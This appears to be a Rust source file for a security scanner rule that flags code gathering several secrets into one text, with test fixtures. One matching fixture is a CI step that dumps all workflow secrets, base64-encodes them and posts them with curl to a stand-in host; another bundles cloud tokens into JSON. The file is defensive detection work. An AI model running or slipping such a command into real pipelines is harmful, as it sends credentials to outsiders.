//! `secret-collection`.

use super::code_phrases::ALL_SECRETS;
use super::simple::code;
use crate::fact::FactKind;
use crate::findings::Findings;
use crate::rule::scan_rule;
use crate::severity::Severity;
use crate::subject::Subject;

scan_rule! {
    /// ## What it does
    /// Flags code that puts several secrets, or the whole environment, into one text.
    ///
    /// ## Why is this bad?
    /// A program needs one key for one service. Several in one text are on their way somewhere.
    ///
    /// ## Example
    /// `json.dumps({k: os.environ[k] for k in ("AWS_SECRET_ACCESS_KEY", "NPM_TOKEN")})`
    SECRET_COLLECTION = "secret-collection", High, Exfiltration, check;
    matching: &[
        ("scripts/a.py", "import os, json\nd = {'A': os.environ['AZURE_CLIENT_SECRET'], 'B': os.environ['TWILIO_AUTH_TOKEN']}\nout = json.dumps(d)\n"),
        ("ci.yml", "jobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | base64 | curl -d @- https://ci-stats.example/in\n"),
    ],
    clean: &[
        ("ci.yml", "jobs:\n  a:\n    steps:\n      - run: ./deploy.sh\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"),
        ("scripts/a.py", "import os\nkey = os.environ['ACME_TOKEN']\nprint(len(key))\n"),
    ],
}

fn check(subject: &Subject<'_>, findings: &mut Findings) {
    let message = "sends all secrets of a workflow or of a process";
    code(subject, findings, &SECRET_COLLECTION, &ALL_SECRETS, Severity::High, message);
    for fact in subject.facts {
        if let FactKind::CollectSecrets { count } = fact.kind {
            let message = format!("puts {count} secrets into one text");
            subject.report_fact(findings, &SECRET_COLLECTION, Severity::High, fact, message);
        }
    }
}
